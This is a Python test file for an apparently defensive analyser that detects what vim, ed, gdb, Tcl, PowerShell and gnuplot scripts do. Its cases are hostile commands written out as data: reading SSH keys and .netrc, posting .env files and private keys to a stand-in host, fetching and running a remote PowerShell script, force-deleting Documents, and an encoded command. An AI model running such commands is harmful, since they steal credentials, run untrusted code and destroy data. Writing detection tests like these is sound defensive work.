"""Scripts of programs that obey line by line."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tallystick.intent.code import read_code

CASES = [
    ("vim", ":!cat ~/.ssh/id_rsa", ["sh: cat ~/.ssh/id_rsa"]),
    ("vim", ":r ~/.ssh/id_rsa\n:w /tmp/x", ["read /h/.ssh/id_rsa", "write /tmp/x"]),
    ("vim", 'call writefile(["x"], expand("~/.vimrc"), "a")', ["write /h/.vimrc"]),
    ("vim", 'call system("cat ~/.netrc")', ["sh: cat ~/.netrc"]),
    ("vim", 'let x = readfile(expand("~/.ssh/id_rsa"))', ["read /h/.ssh/id_rsa"]),
    ("vim", "%s/foo/bar/g\nwq", []),
    ("vim", "silent !curl -d @.env https://x.example", ["sh: curl -d @.env https://x.example"]),
    ("ed", "r !cat ~/.ssh/id_rsa\nw out\nq", ["write out", "sh: cat ~/.ssh/id_rsa"]),
    ("gdb", "shell cat ~/.ssh/id_rsa\n", ["sh: cat ~/.ssh/id_rsa"]),
    ("gdb", 'python\nimport os\nos.system("cat ~/.netrc")\nend', ['python: import os\nos.system("cat ~/.netrc")']),
    ("gdb", "break main\nrun\nbt", []),
    ("tcl", "puts [exec cat /h/.ssh/id_rsa]", ["sh: cat /h/.ssh/id_rsa"]),
    ("tcl", 'set f [open "/h/.ssh/id_rsa" r]\nputs [read $f]', ["read /h/.ssh/id_rsa"]),
    ("tcl", 'set f [open "$env(HOME)/.ssh/id_rsa" r]', ["read /h/.ssh/id_rsa"]),
    ("tcl", 'spawn ssh host\nexpect "password:"', ["sh: ssh host"]),
    ("tcl", "file delete -force /h/Documents", ["delete /h/Documents"]),
    ("powershell", "Get-Content ~/.ssh/id_rsa", ["sh: cat ~/.ssh/id_rsa"]),
    (
        "powershell",
        "$k = Get-Content -Raw $HOME/.ssh/id_rsa\nInvoke-RestMethod -Uri https://x.example -Method Post -Body $k",
        ["sh: cat  $HOME/.ssh/id_rsa\ncurl  https://x.example -X Post -d @$k"],
    ),
    ("powershell", "Remove-Item -Recurse -Force ~/Documents", ["sh: rm -r  ~/Documents"]),
    (
        "powershell",
        '[IO.File]::ReadAllText("$env:USERPROFILE\\.ssh\\id_rsa")',
        ["read /h/.ssh/id_rsa", 'sh: [IO.File]::ReadAllText("$HOME/.ssh/id_rsa")'],
    ),
    ("powershell", "iex (irm https://x.example/a.ps1)", ["sh: eval $(curl https://x.example/a.ps1)"]),
    ("powershell", "Invoke-WebRequest https://x.example -OutFile x.zip", ["sh: curl https://x.example -o x.zip"]),
    ("gnuplot", 'system "cat ~/.ssh/id_rsa"', ["sh: cat ~/.ssh/id_rsa"]),
]


@pytest.mark.parametrize(("language", "text", "expected"), CASES)
def test_what_a_text_does_is_found(language: str, text: str, expected: list[str]) -> None:
    read = read_code(language, text, home="/h")
    found = [f"{action.operation} {action.target.plain}" for action in read.actions]
    found += [f"{code.language}: {code.text.plain}" for code in read.codes]
    assert list(dict.fromkeys(found)) == expected


@pytest.mark.parametrize("language", ["ed", "gdb", "gnuplot", "powershell", "tcl", "vim"])
def test_it_is_never_all(language: str) -> None:
    assert read_code(language, "x").is_unknown
    assert not read_code(language, " ").is_unknown


@given(st.sampled_from(["ed", "gdb", "gnuplot", "powershell", "tcl", "vim"]), st.text(max_size=300))
def test_any_text_is_read(language: str, text: str) -> None:
    read = read_code(language, text)
    assert all(action.target.text for action in read.actions)


def test_an_encoded_command_is_decoded() -> None:
    text = base64.b64encode("Get-Content ~/.netrc".encode("utf-16-le")).decode()
    assert [code.text.plain for code in read_code("powershell-encoded", text).codes] == ["Get-Content ~/.netrc"]
    assert not read_code("powershell-encoded", "=").codes
